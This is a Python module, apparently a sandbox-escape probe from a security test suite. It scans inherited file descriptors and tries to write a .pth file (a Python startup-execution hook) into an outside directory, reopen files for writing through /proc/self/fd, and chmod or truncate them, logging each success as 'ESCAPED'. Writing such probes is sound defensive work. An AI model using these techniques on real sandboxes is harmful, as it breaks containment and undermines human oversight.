import os
import stat

_NAME = "tf_{MARKER}.pth"


def _here(fd):
    try:
        info, cwd = os.fstat(fd), os.stat(".")
    except OSError:
        return True
    return (info.st_dev, info.st_ino) == (cwd.st_dev, cwd.st_ino)


def _try_directory(fd, found):
    if _here(fd):
        return
    try:
        created = os.open(_NAME, os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
        os.write(created, b"import os\n")
        os.close(created)
        found.append("ESCAPED: created " + _NAME + " through directory descriptor " + str(fd))
    except OSError as exc:
        found.append(str(fd) + " dir: " + type(exc).__name__)


def _try_file(fd, info, found):
    try:
        again = os.open("/proc/self/fd/" + str(fd), os.O_WRONLY | os.O_APPEND)
        os.close(again)
        if stat.S_ISREG(info.st_mode):
            found.append("ESCAPED: reopened file descriptor " + str(fd) + " for writing")
    except OSError as exc:
        found.append(str(fd) + " reopen: " + type(exc).__name__)
    if stat.S_ISREG(info.st_mode):
        for name, action in (("fchmod", lambda: os.fchmod(fd, 0o777)),
                             ("ftruncate", lambda: os.ftruncate(fd, info.st_size))):
            try:
                action()
                found.append("ESCAPED: " + name + " on descriptor " + str(fd))
            except OSError as exc:
                found.append(str(fd) + " " + name + ": " + type(exc).__name__)


def scavenge() -> str:
    """Abuse descriptors opened before the sandbox was sealed."""
    found = []
    for fd in range(1024):
        try:
            info = os.fstat(fd)
        except OSError:
            continue
        if stat.S_ISDIR(info.st_mode):
            _try_directory(fd, found)
        else:
            _try_file(fd, info, found)
    print("\n".join(found))
    return "\n".join(found)
